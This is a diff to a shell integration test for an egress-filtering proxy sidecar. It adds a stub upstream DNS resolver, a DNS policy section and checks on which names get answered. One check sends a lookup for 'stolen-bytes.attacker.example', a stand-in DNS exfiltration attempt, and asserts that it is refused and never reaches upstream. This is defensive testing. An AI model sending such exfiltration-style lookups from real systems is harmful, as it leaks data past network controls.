@@ -13,11 +13,14 @@ source "$(dirname "$0")/lib.sh"
 ip link add n0 netns es-node type veth peer name o0 netns es-origin
 ns node ip addr add 10.78.1.1/24 dev n0; ns node ip link set n0 up; ns node ip route add default via 10.78.1.2
 ns origin ip addr add 10.78.1.2/24 dev o0; ns origin ip addr add 10.78.1.3/24 dev o0; ns origin ip link set o0 up
+ns origin ip addr add 10.78.1.53/24 dev o0
 
 origin https 10.78.1.2 443 "$work/cert.pem" "$work/key.pem" A "$work/big"
 origin https 10.78.1.3 443 "$work/cert.pem" "$work/key.pem" B "$work/big"
 origin tcp 10.78.1.3 22 "$work/reached"
 origin udp 10.78.1.2 443 "$work/reached"
+# The upstream resolver the proxy asks: ours, answering 10.78.1.2 and writing down every name asked.
+origin dns 10.78.1.53 10.78.1.2 "$work/dns-asked"
 
 touch "$work/audit.jsonl"; chown 65532:65532 "$work/audit.jsonl"
 cat > "$work/policy.toml" <<TOML
@@ -25,6 +28,9 @@ cat > "$work/policy.toml" <<TOML
 tls = "127.0.0.1:3129"
 plain = "127.0.0.1:3130"
 catch_all = "127.0.0.1:3131"
+dns = "127.0.0.1:3053"
+[resolve]
+upstream = ["10.78.1.53"]
 [audit]
 path = "$work/audit.jsonl"
 [safety]
@@ -38,6 +44,11 @@ proxy_uid = 65532
 name = "azureml"
 action = "allow"
 hosts = ["ml.azure.com"]
+ports = [443]
+[[rule]]
+name = "dns-test"
+action = "allow"
+hosts = ["answer.dnstest.example"]
 ports = [443]
 TOML
 "$BIN" nft --config "$work/policy.toml" --shape sidecar > "$work/sidecar.nft"
@@ -63,6 +74,12 @@ check "and audited with its original destination" audit_has '"reason":"catch_all
 ns node bash -c 'echo quic > /dev/udp/10.78.1.2/443' || true
 sleep 0.5
 check "neither port 22 nor UDP 443 reached the origin" [ ! -s "$work/reached" ]
+# DNS: the node's own questions are redirected to the DNS filter; only the proxy's user asks upstream.
+dig_a() { ns node dig +short +time=3 +tries=1 "@$1" "$2" A; }
+check "DNS: an allowed name is answered, from our upstream" [ "$(dig_a 10.78.1.53 answer.dnstest.example)" = 10.78.1.2 ]
+check "DNS: a refused name gets REFUSED" bash -c "ip netns exec es-node dig +time=3 +tries=1 @10.78.1.53 stolen-bytes.attacker.example A | grep -q 'status: REFUSED'"
+check "DNS: and the upstream never heard of it" bash -c "! grep -q attacker '$work/dns-asked'"
 
+[ "$failed" -eq 0 ] || tail -20 "$work/proxy.log"
 echo "netns sidecar: $passed passed, $failed failed"
 [ "$failed" -eq 0 ]
